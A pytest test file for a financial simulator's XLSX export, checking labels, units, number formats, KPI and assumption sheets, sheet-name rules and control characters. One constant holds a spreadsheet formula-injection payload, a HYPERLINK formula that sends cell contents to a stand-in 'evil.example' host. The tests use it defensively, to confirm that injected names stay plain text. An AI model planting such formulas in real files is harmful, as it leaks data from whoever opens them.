"""The XLSX workbook: labels and units, number formats on every sheet, text never a
formula, control characters shown, categories and reported actuals included."""

from __future__ import annotations

import io
import re
import zipfile

import pytest
from openpyxl import load_workbook

from simulator import COLUMNS, Scenario, load_preset, simulate
from simulator.export.cells import FORMULA_PREFIXES, formula_like, visible
from simulator.export.xlsx import sheet_names, workbook_bytes
from simulator.model.outputs import COLUMN_INFO, METRICS, NEVER
from simulator.units import Money

BASE = load_preset("base")
BULL = load_preset("bull")
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def book_of(*scenarios: Scenario, seeds=None):
    data = workbook_bytes([(s, simulate(s)) for s in scenarios], seeds)
    return load_workbook(io.BytesIO(data)), data


def rows(sheet) -> list[list]:
    return [list(r) for r in sheet.iter_rows(values_only=True)]


def test_series_headers_are_labels_with_units_then_categories_and_actuals():
    book, _ = book_of(BASE)
    header = rows(book.worksheets[0])[0]
    money = Money.of("CNY", BASE.usd_fx, False)
    assert header[0] == "Period"
    assert header[1 : len(COLUMNS) + 1] == [COLUMN_INFO[c].header(money) for c in COLUMNS]
    assert "Cumulative FCF (bn CNY)" in header and "Capex (bn CNY/qtr)" in header
    names = [c.name for c in BASE.program.categories]
    start = len(COLUMNS) + 1
    assert header[start : start + len(names)] == [f"Capex: {n} (bn CNY/qtr)" for n in names]
    reported = header[start + len(names) :]
    assert reported == [
        f"Reported: {COLUMN_INFO[a.column].header(money)}" for a in BASE.actual_series
    ]
    assert reported  # the base preset carries actuals


def test_category_and_reported_values_match_the_model_and_the_file():
    book, _ = book_of(BASE)
    sheet = book.worksheets[0]
    table = rows(sheet)
    header, body = table[0], table[1:]
    result = simulate(BASE)
    first = BASE.program.categories[0].name
    col = header.index(f"Capex: {first} (bn CNY/qtr)")
    assert [r[col] for r in body] == pytest.approx(list(result.capex_by_category[0]), rel=1e-15)
    series = BASE.actual_series[0]
    col = header.index(f"Reported: {COLUMN_INFO[series.column].header(Money())}")
    given = dict(zip(series.quarters, series.values, strict=True))
    for r in body:
        assert r[col] == given.get(r[0])  # empty only where nothing was reported
    for q in series.derived:
        row = next(i for i, r in enumerate(body, start=2) if r[0] == q)
        assert "derived" in sheet.cell(row, col + 1).comment.text


def test_kpis_use_labels_and_write_undefined_values_as_text():
    book, _ = book_of(BASE, BULL)
    table = rows(book["KPIs"])
    assert table[0][:4] == ["Metric", "Key", BASE.name, BULL.name]
    kpis = {r[1]: r for r in table[1:]}
    assert kpis["npv"][0] == "NPV (bn CNY)" and kpis["irr"][0] == "IRR (%)"
    assert kpis["payback_years"][2] == NEVER  # the base plan never pays back
    assert isinstance(kpis["payback_years"][3], float)  # the bull plan does
    assert kpis["payback_years"][4] == "n/a"  # no difference to a payback that never comes
    assert kpis["npv"][4] == pytest.approx(
        simulate(BULL).metrics["npv"] - simulate(BASE).metrics["npv"]
    )
    assert list(kpis) == list(METRICS)[:-1]


def test_every_cell_has_a_number_format_fitting_its_value():
    book, _ = book_of(BASE, BULL, seeds=[2025, None])
    formats = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.number_format == "@", (sheet.title, cell.coordinate)
                elif isinstance(cell.value, int | float) and not isinstance(cell.value, bool):
                    assert cell.number_format != "General", (sheet.title, cell.coordinate)
                    formats.add(cell.number_format)
    assert {"#,##0.000", "0.00%", "0.00", "0"} <= formats
    about = rows(book["About"])
    assert [BASE.name, BASE and about[4][1], 2025, "CNY"] == about[4]
    assert about[5][2] == "no run"
    assert book["About"]["B2"].number_format == "yyyy-mm-dd hh:mm"


def test_assumptions_show_units_and_percent_formats():
    book, _ = book_of(BASE, BULL)
    table = {r[2]: r for r in rows(book["Assumptions"])[1:]}
    assert table["revenue.ai_share"][1] == "%"
    assert table["program.total_capex"][1] == "bn CNY"
    assert table["program.year_split"][3] == "33, 33, 34"  # percent, in display units
    sheet = book["Assumptions"]
    row = next(i for i, r in enumerate(rows(sheet), 1) if r[2] == "revenue.ai_share")
    assert sheet.cell(row, 4).number_format == "0.00%"
    assert {r[-1] for r in table.values()} <= {"yes", "no"}


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_text_is_never_a_formula(prefix):
    name = prefix + EVIL.lstrip("=")
    s = BASE.with_field("name", name).with_field("program.categories.1.name", prefix + "cat")
    book, data = book_of(s, BULL)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        xml = "".join(z.read(n).decode() for n in z.namelist() if n.endswith(".xml"))
    assert "<f>" not in xml and "<f " not in xml
    shown = visible(prefix)  # a carriage return is shown as \\r, which is no formula
    seen = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(shown):
                    assert cell.data_type == "s", cell.coordinate
                    assert cell.quotePrefix == formula_like(shown), cell.coordinate
                    seen += 1
    assert seen >= 4  # KPIs, Assumptions (twice: name and category) and About


def test_control_characters_are_shown_not_fatal():
    s = BASE.with_field("name", "a\x01b\x1fc").with_field("program.categories.0.name", "x\x0by")
    book, _ = book_of(s)
    assert book.sheetnames[0] == "a b c"
    assert rows(book["About"])[4][0] == "a\\x01b\\x1fc"
    assert "Capex: x\\x0by (bn CNY/qtr)" in rows(book.worksheets[0])[0]


def test_sheet_names_are_unique_ignoring_case_and_valid():
    names = sheet_names(["kpis", "About", "'quoted'", "a/b:c", "x" * 40, "X" * 40, "", "\x01"])
    assert len({n.casefold() for n in names}) == len(names)
    assert not {n.casefold() for n in names} & {"kpis", "about", "assumptions"}
    assert all(0 < len(n) <= 31 and not re.search(r"[\[\]:*?/\\]", n) for n in names)
    assert all(n[0] != "'" and n[-1] != "'" for n in names)


def test_a_500_character_name_is_written():
    book, _ = book_of(BASE.with_field("name", "n" * 500))
    assert rows(book["About"])[4][0] == "n" * 500
